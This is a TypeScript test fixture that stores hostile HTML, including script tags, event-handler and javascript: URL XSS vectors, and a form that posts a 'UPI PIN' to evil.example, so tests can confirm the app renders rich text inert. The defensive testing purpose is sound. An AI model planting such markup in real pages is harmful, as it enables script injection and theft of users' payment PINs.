import type { Db } from '../db/open.ts'
import { kindImagePath } from '../images/art.ts'

/**
 * Markup a careless client would execute: a test fixture, never seeded. The tests that prove the client
 * renders rich text inert insert it (`insertHostileContent`, or `POST /__admin/hostile-content` for e2e), so a
 * fresh database shows no "Claim your bonus" or broken picture to anyone.
 */
export const hostileHtml = [
  '<p>When you buy goods, your <b>balance pays first</b> and your Points pay the rest.</p>',
  '<script>window.__pwned = "script"</script>',
  '<img src="x" onerror="window.__pwned = \'onerror\'">',
  '<a href="javascript:window.__pwned = \'link\'">Claim your bonus</a>',
  '<svg onload="window.__pwned = \'svg\'"><circle r="4"/></svg>',
  '<iframe src="javascript:window.top.__pwned = \'iframe\'"></iframe>',
  '<form action="https://evil.example/steal"><input name="pin" placeholder="Enter UPI PIN"></form>',
  '<div style="background:url(javascript:alert(1))" onclick="window.__pwned = \'click\'">Tap here</div>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
].join('\n')

export const HOSTILE_NOTICE_TITLE = 'Test fixture: hostile announcement'
export const HOSTILE_PAGE_TITLE = 'Test fixture: hostile page'

/** Adds the hostile announcement and page once (again: the same ids); returns their ids. */
export function insertHostileContent(db: Db, now: number): { notice: number; page: number } {
  return db.transaction(() => {
    const notice =
      (
        db.prepare('SELECT id FROM notices WHERE title = ?').get(HOSTILE_NOTICE_TITLE) as
          | { id: number }
          | undefined
      )?.id ??
      Number(
        db
          .prepare('INSERT INTO notices (title, summary, contents, image, created_at) VALUES (?, ?, ?, ?, ?)')
          .run(
            HOSTILE_NOTICE_TITLE,
            'Markup that must render inert.',
            hostileHtml,
            kindImagePath('news'),
            now,
          ).lastInsertRowid,
      )
    const page =
      (
        db.prepare('SELECT id FROM pages WHERE title = ?').get(HOSTILE_PAGE_TITLE) as
          | { id: number }
          | undefined
      )?.id ??
      Number(
        db
          .prepare("INSERT INTO pages (title, contents, url) VALUES (?, ?, '')")
          .run(HOSTILE_PAGE_TITLE, hostileHtml).lastInsertRowid,
      )
    return { notice, page }
  })()
}
